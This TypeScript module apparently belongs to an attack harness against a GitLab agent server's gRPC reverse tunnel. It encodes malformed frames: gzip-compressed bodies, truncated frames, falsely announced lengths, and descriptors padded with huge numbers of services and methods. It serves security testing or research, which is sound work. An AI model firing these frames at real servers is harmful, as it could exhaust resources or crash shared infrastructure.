import { randomBytes } from "node:crypto";
import { gzipSync } from "node:zlib";

import { CONNECT_REQUEST_MESSAGE, frameHeader, HTTP_RESPONSE_DATA, wrapBytes } from "@binnacle/grpc-wire";
import { ConfigurationRequestSchema } from "@binnacle/proto/agent-configuration";
import { HttpRequestSchema, HttpResponseSchema } from "@binnacle/proto/grpctool";
import { ConnectRequestSchema } from "@binnacle/proto/reverse-tunnel";
import { create, toBinary, type MessageInitShape } from "@bufbuild/protobuf";

import type { Answer, Message } from "./attack.ts";

type AgentMessage = NonNullable<MessageInitShape<typeof ConnectRequestSchema>["msg"]>;
type HttpMessage = NonNullable<MessageInitShape<typeof HttpResponseSchema>["message"]>;

/** Numbers of fields down to a service: ConnectRequest.descriptor, Descriptor.agent_descriptor, AgentDescriptor.services. */
const SERVICE_OF_DESCRIPTOR = [1, 1, 1];

/** The bytes of a message, without gRPC's prefix. */
function encodeMessage(message: Message): Buffer {
  switch (message.kind) {
    case "descriptor":
      return agentMessage({ case: "descriptor", value: { agentDescriptor: { services: servicesOf(message) } } });
    case "empty-methods":
      return Buffer.concat(wrapBytes(SERVICE_OF_DESCRIPTOR, [Buffer.alloc(2 * message.methods, Buffer.from([0x12, 0x00]))]));
    case "agent-meta": {
      const agentMeta = { version: "v".repeat(message.bytes), commitId: "c", podNamespace: "n", podName: "p" };
      return Buffer.from(toBinary(ConfigurationRequestSchema, create(ConfigurationRequestSchema, { agentMeta })));
    }
    case "http-request": {
      const request = { method: message.method, urlPath: message.path, header: {}, query: {} };
      return Buffer.from(toBinary(HttpRequestSchema, create(HttpRequestSchema, { message: { case: "header", value: { request } } })));
    }
    case "http-end":
      return Buffer.from(toBinary(HttpRequestSchema, create(HttpRequestSchema, { message: { case: "trailer", value: {} } })));
    case "zeros":
      return Buffer.alloc(message.bytes);
    case "bytes":
      return Buffer.from(message.hex, "hex");
    default:
      return message satisfies never;
  }
}

/** With gRPC's prefix. @param how compressed, cut, or announced with another length */
export function encodeAttackFrame(
  message: Message,
  how: { readonly gzip: boolean; readonly sent: number; readonly announced?: number | undefined },
): Buffer {
  const plain = encodeMessage(message);
  const body = how.gzip ? gzipSync(plain, { level: 9 }) : plain;
  const prefix = frameHeader(how.announced ?? body.length);
  if (how.gzip) prefix[0] = 1;
  const frame = Buffer.concat([prefix, body]);
  return frame.subarray(0, Math.ceil(frame.length * how.sent));
}

/** The message of an answer, without gRPC's prefix; undefined for what is no message. */
export function encodeAnswer(answer: Answer): Buffer | undefined {
  switch (answer.send) {
    case "header":
      return agentMessage({ case: "header", value: { meta: {} } });
    case "response": {
      const header = Object.fromEntries(Object.entries(answer.headers).map(([name, value]) => [name, { value: [value] }]));
      return httpMessage({ case: "header", value: { response: { statusCode: answer.status, status: String(answer.status), header } } });
    }
    case "body":
      return Buffer.concat(wrapBytes([...CONNECT_REQUEST_MESSAGE, ...HTTP_RESPONSE_DATA], [Buffer.alloc(answer.bytes, "x")]));
    case "body-end":
      return httpMessage({ case: "trailer", value: {} });
    case "trailer":
      return agentMessage({ case: "trailer", value: { meta: {} } });
    case "error":
      return agentMessage({ case: "error", value: { status: { code: answer.code, message: "as it pleases" } } });
    case "message":
      return encodeMessage(answer.message);
    case "end":
    case "reset":
      return undefined;
    default:
      return answer satisfies never;
  }
}

function agentMessage(msg: AgentMessage): Buffer {
  return Buffer.from(toBinary(ConnectRequestSchema, create(ConnectRequestSchema, { msg })));
}

function httpMessage(message: HttpMessage): Buffer {
  const data = toBinary(HttpResponseSchema, create(HttpResponseSchema, { message }));
  return agentMessage({ case: "message", value: { data } });
}

/** Method names of the given length, all different; the first service is the one that kas calls at agents. */
function servicesOf({
  services,
  methods,
  nameLength,
  nonce,
}: Message & { kind: "descriptor" }): { name: string; methods: { name: string }[] }[] {
  const salt = nonce ? randomBytes(6).toString("hex") : "";
  const name = (index: number): string => `${salt}${index}`.padEnd(nameLength, "n").slice(0, Math.max(nameLength, 1));
  const made = Array.from({ length: services }, (_, service) => ({
    name: name(service),
    methods: Array.from({ length: methods }, (_, method) => ({ name: nameLength === 0 ? "" : name(method) })),
  }));
  return [{ name: "gitlab.agent.kubernetes_api.rpc.KubernetesApi", methods: [{ name: "MakeRequest" }] }, ...made];
}
